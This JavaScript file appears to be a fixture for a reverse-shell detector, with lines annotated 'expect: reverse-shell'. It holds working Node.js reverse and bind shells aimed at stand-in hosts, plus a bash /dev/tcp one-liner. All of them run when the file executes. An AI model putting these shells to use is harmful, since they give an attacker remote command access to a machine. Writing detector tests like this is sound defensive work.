const net = require('net');
const cp = require('child_process');

function first() {
  const line = net.connect(4444, '192.0.2.7');
  const shell = cp.spawn('/bin/sh', []);
  line.pipe(shell.stdin); // expect: reverse-shell
  shell.stdout.pipe(line);
  shell.stderr.pipe(line);
}

const second = () => {
  const shell = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : 'bash');
  const line = new net.Socket();
  line.connect(4444, 'control.acme.example', () => {
    line.on('data', (text) => shell.stdin.write(text)); // expect: reverse-shell
    shell.stdout.on('data', (text) => line.write(text));
  });
};

function third() {
  net.createServer((line) => {
    const shell = cp.spawn('bash', ['-i']);
    line.pipe(shell.stdin); // expect: reverse-shell
    shell.stdout.pipe(line);
  }).listen(4444);
}

function fourth() {
  const shell = cp.spawn('bash', ['-c', 'ls']);
  shell.stdout.pipe(process.stdout);
  const line = net.connect(5432, 'db.acme.example');
  line.on('data', (text) => console.error(text.length));
}

first();
second();
third();
fourth();
cp.exec('bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'); // expect: reverse-shell
